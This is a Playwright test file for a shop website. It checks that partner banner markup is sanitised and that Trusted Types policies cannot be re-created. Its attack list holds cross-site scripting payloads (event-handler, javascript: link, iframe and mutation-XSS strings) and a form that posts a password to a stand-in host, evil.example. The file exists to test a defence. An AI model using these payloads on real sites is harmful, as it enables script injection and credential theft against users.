import { expect, test } from '../stack/test.ts'
import { expectAccessible } from './steps/accessibility.ts'

/** Each would leave its mark in the window if the browser ran it. */
const attacks = [
  '<script>window.hit = 1</script>',
  '<img src=x onerror="window.hit = 1">',
  '<svg onload="window.hit = 1"><style><img src=x onerror="window.hit = 1"></style></svg>',
  '<a href="javascript:window.hit = 1">安売り</a>',
  '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
  '<form action="https://evil.example/"><input name="password"></form>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
]

// The sanitiser reads the text as a document without a window: what would run there is told, and does not run.
test.use({ expectedProblems: /^(?:script-src-attr|style-src-attr|style-src-elem) violated by inline|^trusted-types / })

test('[API-050] markup of a partner on its card keeps words and emphasis and loses the rest @desktop', async ({
  page,
}) => {
  await page.route('**/static-data/partner-sites.json*', async (route) => {
    const response = await route.fetch()
    const sites = (await response.json()) as { scrollBanners: { detail: string }[] }
    const detail = `<strong class="red" onclick="window.hit = 1">冬物セール</strong><br>あったか肌着${attacks.join('')}`
    const scrollBanners = sites.scrollBanners.map((banner) => ({ ...banner, detail }))
    await route.fulfill({ response, json: { ...sites, scrollBanners } })
  })
  await page.goto('/')
  const card = page.getByRole('region', { name: '専門店のお買い物' }).getByRole('button').first()
  await expect(card.locator('strong')).toHaveText('冬物セール')
  await expect(card).toContainText('冬物セールあったか肌着')
  const inside =
    '[class="red"], [onclick], a, script, style, iframe, form, input, math, table, svg svg, img:not([alt=""])'
  await expect(card.locator(inside)).toHaveCount(0)
  expect(await page.evaluate(() => 'hit' in window)).toBe(false)
  await expectAccessible(page, 'a card with markup')
})

test('no script of a page can create a policy of the shop again @desktop', async ({ page }) => {
  const response = await page.goto('/')
  const policy = response?.headers()['content-security-policy'] ?? ''
  const names = /trusted-types ([^;]*)/.exec(policy)?.[1]?.split(' ') ?? []
  expect(names).toEqual(expect.arrayContaining(['default', 'dompurify']))
  await expect(page.getByRole('region', { name: '専門店のお買い物' })).toBeVisible()
  const refused = await page.evaluate(
    (all) => {
      const factory: { createPolicy(name: string, rules: object): unknown } = Reflect.get(window, 'trustedTypes')
      return all.filter((name) => {
        try {
          factory.createPolicy(name, { createHTML: (html: string) => html })
          return false
        } catch {
          return true
        }
      })
    },
    [...names, 'another'],
  )
  expect(refused).toEqual([...names, 'another'])
})
